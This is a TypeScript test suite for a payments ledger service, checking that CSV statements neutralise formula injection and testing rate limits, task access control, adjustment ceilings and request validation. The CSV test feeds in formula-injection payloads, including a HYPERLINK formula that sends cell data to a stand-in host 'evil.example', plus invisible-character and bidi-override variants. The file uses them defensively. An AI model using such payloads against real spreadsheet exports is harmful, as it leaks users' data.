// @ledger-backends: level postgres  (test/run.ts runs this file once per ledger backend)
// @tier: quick  (npm run test:quick: in-process, on LevelDB)
// Issue 23, "Security" items 1-4, 6 and 7, on the real service (real build, real ledger, the MCP
// and A2A endpoints mounted as `lds serve` mounts them) over real HTTP:
//   1. the statement CSV neutralises formula-like text cells (also behind white space, invisible
//      characters or full-width forms; issue 34) and removes invisible characters, numbers stay numbers;
//   2. a balance token in an MCP tool argument or an A2A data part takes from the token's bucket;
//   3. A2A tasks/get shows a paid draw only to the token that paid for it;
//   4. anonymous quote tasks cannot push a paid task out of the task store;
//   6. one operator adjustment is capped (LDS_MAX_ADJUSTMENT, default the top-up maximum);
//   7. only application/json (no charset or utf-8) is read; MCP parameter and JSON errors are in
//      the service's words, not the validator's issue list or the parser's message.
// Token buckets here: 1 request per second, bursts of 4, per balance token (each test its own token).
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { randomBytes, randomUUID } from 'node:crypto';
import { loadConfig, ConfigError } from '../payments/config.ts';
import { DEFAULT_MAX_ADJUSTMENT_CENTS, TOPUP_MAXIMUM_CENTS } from '../contract/limits.ts';
import { hashToken } from '../payments/tokens.ts';
import { csvCell } from '../payments/http/statement-csv.ts';
import { balanceOf, bearer, mcpClient, postJson, rawPost, refsOf, startAgentService, topUp, type AgentService } from './helpers/agents.ts';

const PRODUCT = 'svc-agriculture-eu';
const OPERATOR = randomBytes(32).toString('hex');
let svc: AgentService;
let refs: string[];
let a2aUrl: string;
let spt = 0;

test.before(async () => {
  svc = await startAgentService({ env: { LDS_OPERATOR_TOKEN: OPERATOR, LDS_RATE_LIMIT_TOKEN_RPS: '1', LDS_RATE_LIMIT_TOKEN_BURST: '4' } });
  refs = await refsOf(svc.base, PRODUCT, 'regulation');
  a2aUrl = svc.card.url;
});
test.after(async () => {
  await svc?.close();
});

const freshToken = (amount = '5.00') => topUp(svc.base, amount, `spt_test_security_${++spt}`);
const admin = (path: string, body: unknown, key: string) => postJson(`${svc.base}/lds/admin/${path}`, body, { ...bearer(OPERATOR), 'idempotency-key': key });
const isType = (body: any, slug: string) => typeof body?.type === 'string' && body.type.endsWith(`/${slug}`);
const rpc = (method: string, params: unknown, id: number | string = 1) => JSON.stringify({ jsonrpc: '2.0', id, method, params });
const send = (d: Record<string, unknown>, headers: Record<string, string> = {}) =>
  rawPost(a2aUrl, rpc('message/send', { message: { kind: 'message', role: 'user', messageId: randomUUID(), parts: [{ kind: 'data', data: d }] } }), headers);

/** RFC 4180 rows (quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    } else cell += c;
  }
  return rows;
}

// ---------------------------------------------------------------- 1. statement CSV

test('1. statement CSV: formula-like text cells get a leading quote (also behind white space or invisible characters), invisible characters are removed, amounts stay numbers', async () => {
  const token = await freshToken();
  const id = hashToken(token); // the balance id
  const reasons = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', '+1+2', '-3+4', '@SUM(A1:A2)', '\tcmd', 'plain \u202Eevil\u2066 text\u2069'];
  // Issue 34: white space before the formula, or an invisible character (LRM, RLM, ALM, a BOM, a
  // zero-width space, NUL) in front of it, or a full-width ＝: each starts a formula all the same.
  const hidden = [' =1+1', '\n=1+1', '\u00A0@SUM(1)', '\u200E=1+2', '\u200F+3', '\u061C-4', '\uFEFF=5', '\u200B@6', '\uFF1DHYPERLINK("x")'];
  reasons.push(...hidden);
  for (const [i, reason] of reasons.entries()) {
    const res = await admin('adjustments', { balance_id: id, direction: 'credit', amount: '0.10', reason }, `csv-${i}-${id}`);
    assert.is(res.status, 201, await res.text());
  }
  const debit = await admin('adjustments', { balance_id: id, direction: 'debit', amount: '0.47', reason: 'a debit' }, `csv-debit-${id}`);
  assert.is(debit.status, 201);
  const res = await fetch(`${svc.base}/lds/balance?format=csv&limit=100`, { headers: bearer(token) });
  assert.is(res.status, 200);
  const [header, ...rows] = parseCsv(await res.text());
  const col = (name: string) => header.indexOf(name);
  assert.ok(col('reason') >= 0 && col('amount') >= 0);
  const reasonsOut = rows.map((r) => r[col('reason')]).filter((r) => r !== '');
  assert.is(reasonsOut.length, reasons.length + 1);
  for (const r of reasonsOut) {
    assert.not.match(r, /^[=+\-@\t\r]/, `a text cell starts like a formula: ${JSON.stringify(r)}`);
    assert.not.match(r, /\p{Cf}|[\0-\x08\x0B\x0C\x0E-\x1F]/u, `an invisible character in ${JSON.stringify(r)}`);
    // What a spreadsheet evaluates: the cell without its leading white space, full-width forms folded.
    assert.not.match(r.trimStart().normalize('NFKC'), /^[=+\-@]/, `a formula after white space: ${JSON.stringify(r)}`);
  }
  for (const [i, out] of ["' =1+1", "'\n=1+1", "'\u00A0@SUM(1)", "'=1+2", "'+3", "'-4", "'=5", "'@6", "'\uFF1DHYPERLINK(\"x\")"].entries())
    assert.ok(reasonsOut.includes(out), `${JSON.stringify(hidden[i])} should read ${JSON.stringify(out)}: ${JSON.stringify(reasonsOut)}`);
  // Neutralised, not lost: the apostrophe prefix keeps the text as sent.
  for (const reason of reasons.slice(0, 5)) assert.ok(reasonsOut.includes(`'${reason}`), `${JSON.stringify(reason)} missing from ${JSON.stringify(reasonsOut)}`);
  assert.ok(reasonsOut.includes('plain evil text'));
  // NUL: a reason holding a control character is refused (PostgreSQL cannot store NUL), naming
  // it; a cell that holds one anyway (a reason stored before) loses it.
  const nul = await admin('adjustments', { balance_id: id, direction: 'credit', amount: '0.10', reason: '\u0000=7' }, `csv-nul-${id}`);
  const refusal = (await nul.json()) as any;
  assert.is(nul.status, 400, JSON.stringify(refusal));
  assert.is(refusal.field, 'reason');
  assert.match(refusal.detail, /control character U\+0000 at character 1/);
  assert.is(csvCell('\u0000=7'), "'=7");
  assert.is(csvCell('a\u0000b\u0007c'), 'abc');
  // Amounts are numbers, the debit negative and unprefixed.
  for (const r of rows) {
    assert.match(r[col('amount')], /^-?[0-9]+\.[0-9]{2}$/);
    assert.match(r[col('balance_after')], /^[0-9]+\.[0-9]{2}$/);
  }
  assert.ok(rows.some((r) => r[col('amount')] === '-0.47'));
});

// ---------------------------------------------------------------- 2. token rate limit

/** Calls `attempt` until it reports a refusal (at most 40 times); returns how many got through first. */
async function untilRefused(attempt: () => Promise<boolean>): Promise<number> {
  for (let i = 0; i < 40; i++) if (!(await attempt())) return i;
  throw new Error('never refused in 40 requests');
}

test('2. a balance token given as an MCP tool argument takes from the same bucket as Authorization: Bearer', async () => {
  const token = await freshToken();
  const client = await mcpClient(svc.mcpUrl); // no Authorization: the token travels only as an argument
  try {
    let refusal: any;
    const passed = await untilRefused(async () => {
      const r = (await client.callTool({ name: 'get_balance', arguments: { balance_token: token } })) as any;
      if (!r.isError) return true;
      refusal = r.structuredContent;
      return false;
    });
    assert.ok(passed >= 1 && passed <= 10, `passed ${passed}`);
    assert.is(refusal.status, 429);
    assert.ok(isType(refusal, 'rate-limited'));
    assert.is(refusal.policy, 'token');
  } finally {
    await client.close();
  }
  // The same bucket: the HTTP API is refused for this token now.
  const http = await fetch(`${svc.base}/lds/balance`, { headers: bearer(token) });
  assert.is(http.status, 429);
  assert.is(((await http.json()) as any).policy, 'token');
});

test('2. a balance token in an A2A data part takes from the same bucket', async () => {
  const token = await freshToken();
  // Drain most of the bucket over HTTP first: one bucket, whichever way the token comes.
  for (let i = 0; i < 2; i++) assert.is((await fetch(`${svc.base}/lds/balance`, { headers: bearer(token) })).status, 200);
  let refusal: any;
  const passed = await untilRefused(async () => {
    const r = await send({ product_id: PRODUCT, units: refs.slice(0, 1), balance_token: token });
    if (r.json?.result) return true;
    refusal = r.json?.error;
    return false;
  });
  assert.ok(passed <= 8, `passed ${passed}`);
  assert.is(refusal.code, -32029);
  assert.is(refusal.data.status, 429);
  assert.is(refusal.data.policy, 'token');
});

// ---------------------------------------------------------------- 3. and 4. A2A tasks

/** Quotes and pays one unit over A2A with `token` as Bearer; returns the paid task's id and what it cost. */
async function paidTask(token: string, unit: string): Promise<{ id: string; amount: string }> {
  const q = await send({ product_id: PRODUCT, units: [unit] });
  const quote = q.json.result.artifacts[0].parts[0].data;
  const paid = await send({ product_id: PRODUCT, units: [unit], quote_id: quote.quote_id }, bearer(token));
  const task = paid.json.result;
  assert.is(task.status.state, 'completed', JSON.stringify(paid.json));
  assert.is(task.artifacts[0].name, 'draw');
  return { id: task.id, amount: quote.amount };
}

const getTask = (id: string, headers: Record<string, string> = {}) => rawPost(a2aUrl, rpc('tasks/get', { id }), headers);

test('3. tasks/get: a paid draw only for the token that paid; anyone else gets the state without units', async () => {
  const owner = await freshToken();
  const other = await freshToken();
  const { id } = await paidTask(owner, refs[1]);
  for (const headers of [{}, bearer(other)]) {
    const r = await getTask(id, headers);
    const task = r.json.result;
    assert.ok(task, JSON.stringify(r.json));
    assert.is(task.id, id);
    assert.is(task.status.state, 'completed');
    assert.equal(task.artifacts, []);
    assert.not.ok(r.text.includes(refs[1]), 'the unit reference leaked');
    assert.not.ok(r.text.includes('"receipt"'), 'the receipt leaked');
    assert.match(task.metadata.withheld, /same token/);
  }
  const mine = (await getTask(id, bearer(owner))).json.result;
  assert.is(mine.artifacts[0].name, 'draw');
  assert.is(mine.artifacts[0].parts[0].data.units[0].ref, refs[1]);
  assert.ok(mine.artifacts[0].parts[0].data.receipt.draw_id);
});

test('4. 1,001 anonymous quotes do not push a paid task out; anonymous quotes stay readable', async () => {
  const owner = await freshToken();
  const { id, amount } = await paidTask(owner, refs[2]);
  let lastQuoteTask = '';
  const quoteOnce = async () => {
    const r = await send({ product_id: PRODUCT, units: [refs[3]] });
    assert.is(r.json?.result?.status?.state, 'completed', r.text.slice(0, 300));
    lastQuoteTask = r.json.result.id;
  };
  let n = 0;
  await Promise.all(
    Array.from({ length: 6 }, async () => {
      while (n < 1001) {
        n++;
        await quoteOnce();
      }
    }),
  );
  const task = (await getTask(id, bearer(owner))).json.result;
  assert.ok(task, 'the paid task is gone');
  assert.is(task.artifacts[0].name, 'draw');
  const quote = (await getTask(lastQuoteTask)).json.result;
  assert.is(quote.artifacts[0].name, 'quote', 'an anonymous quote is readable by its id');
  const cents = (a: string) => Math.round(Number(a) * 100);
  assert.is(cents(await balanceOf(svc.base, owner)), 500 - cents(amount), 'the quotes charged nothing');
});

// ---------------------------------------------------------------- 6. adjustment ceiling

test('6. an operator adjustment above the maximum is refused with 422 naming it; nothing changes', async () => {
  assert.is(DEFAULT_MAX_ADJUSTMENT_CENTS, TOPUP_MAXIMUM_CENTS, 'the default ceiling is the top-up maximum');
  const token = await freshToken();
  const id = hashToken(token);
  const before = await balanceOf(svc.base, token);
  for (const direction of ['credit', 'debit']) {
    const res = await admin('adjustments', { balance_id: id, direction, amount: '10000000.00', reason: 'fat finger' }, `max-${direction}-${id}`);
    const body = (await res.json()) as any;
    assert.is(res.status, 422, JSON.stringify(body));
    assert.ok(isType(body, 'adjustment-above-maximum'));
    assert.is(body.field, 'amount');
    assert.is(body.maximum, '10000.00');
    assert.match(body.detail, /10000\.00 EUR \(LDS_MAX_ADJUSTMENT\)/);
  }
  assert.is(await balanceOf(svc.base, token), before);
  const justUnder = await admin('adjustments', { balance_id: id, direction: 'credit', amount: '10000.00', reason: 'the most one adjustment moves' }, `max-ok-${id}`);
  assert.is(justUnder.status, 201);
  assert.is(await balanceOf(svc.base, token), '10005.00');
  assert.equal(await svc.running.ledger.verify(), []);
});

test('6. LDS_MAX_ADJUSTMENT sets the ceiling; a malformed value stops the start with its name', async () => {
  const base = { LDS_VAR_DIR: svc.root, LDS_OPERATOR_TOKEN: OPERATOR };
  assert.is((await loadConfig({}, base)).maxAdjustmentCents, 1_000_000);
  assert.is((await loadConfig({}, { ...base, LDS_MAX_ADJUSTMENT: '250.50' })).maxAdjustmentCents, 25_050);
  for (const bad of ['-1.00', '0', '1e6', 'lots']) {
    try {
      await loadConfig({}, { ...base, LDS_MAX_ADJUSTMENT: bad });
      assert.unreachable(bad);
    } catch (err) {
      assert.instance(err, ConfigError);
      assert.match((err as Error).message, /LDS_MAX_ADJUSTMENT/);
    }
  }
});

// ---------------------------------------------------------------- 7. media types and error words

test('7. request bodies: application/json with no charset or utf-8 is read; any other type is 415', async () => {
  const body = JSON.stringify({ product_id: PRODUCT, units: refs.slice(0, 1) });
  const post = (url: string, type: string, b = body) => fetch(url, { method: 'POST', headers: { 'content-type': type, accept: 'application/json, text/event-stream' }, body: b });
  for (const ok of ['application/json', 'application/json; charset=utf-8', 'Application/JSON;charset="UTF-8"']) {
    assert.is((await post(`${svc.base}/lds/draw`, ok)).status, 402, ok);
  }
  for (const bad of ['application/json; charset=utf-16', 'application/evil+json', 'application/json; charset=latin1', 'application/json; foo=bar', 'text/json']) {
    const res = await post(`${svc.base}/lds/draw`, bad);
    const p = (await res.json()) as any;
    assert.is(res.status, 415, bad);
    assert.ok(isType(p, 'unsupported-media-type'));
    assert.match(p.detail, /application\/json/);
  }
  // The agent endpoints read bodies the same way.
  const init = rpc('tools/list', {});
  assert.is((await post(svc.mcpUrl, 'application/json; charset=utf-16', init)).status, 415);
  assert.is((await post(a2aUrl, 'application/evil+json', rpc('tasks/get', { id: 'x' }))).status, 415);
});

test('7. MCP: invalid params and malformed JSON are answered in the service\'s words (field, expected, got)', async () => {
  const headers = { accept: 'application/json, text/event-stream' };
  const init = await rawPost(svc.mcpUrl, rpc('initialize', { protocolVersion: 5 }), headers);
  assert.is(init.json.error.code, -32602);
  assert.equal(init.json.error.data, { field: 'params.protocolVersion', expected: 'a string', got: 'the whole number 5' });
  for (const raw of ['invalid_type', '"path"', '"code"', '[\n']) assert.not.ok(init.json.error.message.includes(raw), `validator output in ${init.json.error.message}`);
  assert.match(init.json.error.message, /^Invalid params for initialize: params\.protocolVersion: expected a string, got the whole number 5/);

  const call = await rawPost(svc.mcpUrl, rpc('tools/call', { name: 5 }), headers);
  assert.is(call.json.error.code, -32602);
  assert.equal(call.json.error.data, { field: 'params.name', expected: 'a string', got: 'the whole number 5' });

  const list = await rawPost(svc.mcpUrl, rpc('tools/list', { cursor: [] }), headers);
  assert.is(list.json.error.code, -32602, 'an invalid param is -32602, not an internal error');
  assert.is(list.json.error.data.field, 'params.cursor');

  // Tool arguments: the problem names the field, what it wants and what came.
  const args = await rawPost(svc.mcpUrl, rpc('tools/call', { name: 'quote_draw', arguments: { product_id: 7 } }), headers);
  const problem = args.json.result.structuredContent;
  assert.is(problem.field, 'product_id');
  assert.is(problem.expected, 'a string');
  assert.is(problem.got, 'the whole number 7');
  assert.not.match(problem.detail, /Invalid input|received/);

  const broken = '{"jsonrpc":"2.0",';
  let parserMessage = '';
  try {
    JSON.parse(broken);
  } catch (e) {
    parserMessage = (e as Error).message;
  }
  const parse = await rawPost(svc.mcpUrl, broken, headers);
  assert.is(parse.status, 400);
  assert.is(parse.json.error.code, -32700);
  assert.not.ok(parse.json.error.message.includes(parserMessage), parse.json.error.message);
  assert.match(parse.json.error.message, /not valid JSON: it ends after 17 characters/);
  const http = await fetch(`${svc.base}/lds/draw`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"product_id" 1}' });
  const hp = (await http.json()) as any;
  assert.is(http.status, 400);
  assert.match(hp.detail, /breaks at character 15 of 16/);
});

test.run();
